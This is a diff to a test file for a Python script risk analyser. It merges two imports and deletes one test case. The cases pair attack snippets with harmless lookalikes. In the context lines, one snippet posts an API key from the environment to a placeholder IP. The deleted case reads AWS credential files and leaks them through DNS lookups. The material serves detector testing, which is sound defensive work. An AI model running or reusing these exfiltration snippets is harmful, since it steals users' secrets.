@@ -1,6 +1,5 @@
 import { describe, expect, it } from 'vitest'
-import { analysePython, analysePythonFiles } from '../../../src/risk/script/analyse-python.ts'
-import { errors, shell, warnings } from './acts.ts'
+import { analysePython, analysePythonFiles, errors, shell, warnings } from './acts.ts'
 
 /** Name, the kind that must be found at error level, the attack, and honest code that looks like it. */
 const CASES: readonly (readonly [name: string, kind: string, attack: string, honest: string])[] = [
@@ -112,12 +111,6 @@ const CASES: readonly (readonly [name: string, kind: string, attack: string, hon
     'secret-exfiltration',
     `import os, httpx\nhttpx.post("http://198.51.100.3/x", json={"key": os.environ["ANTHROPIC_API_KEY"]})`,
     `import os, openai, boto3, requests\nclient = openai.OpenAI(api_key=os.environ["OPENAI_API_KEY"])\ntext = client.chat.completions.create(model="m", messages=[]).choices[0].message.content\nrequests.post("https://api.vendor.dev/v1", json={"text": text}, auth=("me", os.environ["VENDOR_PASSWORD"]))\nrequests.post("https://login.vendor.dev/token", data={"client_secret": os.environ["CLIENT_SECRET"]})`,
-  ],
-  [
-    'secrets in names that are looked up',
-    'secret-exfiltration',
-    `import socket, os, base64\nd = base64.b32encode(open(os.path.expanduser("~/.aws/credentials"), "rb").read()).decode()\nfor i in range(0, len(d), 60):\n    socket.gethostbyname(d[i:i+60] + ".t.some-site.net")`,
-    `import socket\nprint(socket.gethostbyname(socket.gethostname()))\nsocket.getaddrinfo("api.vendor.dev", 443)`,
   ],
   [
     'a socket takes a key',
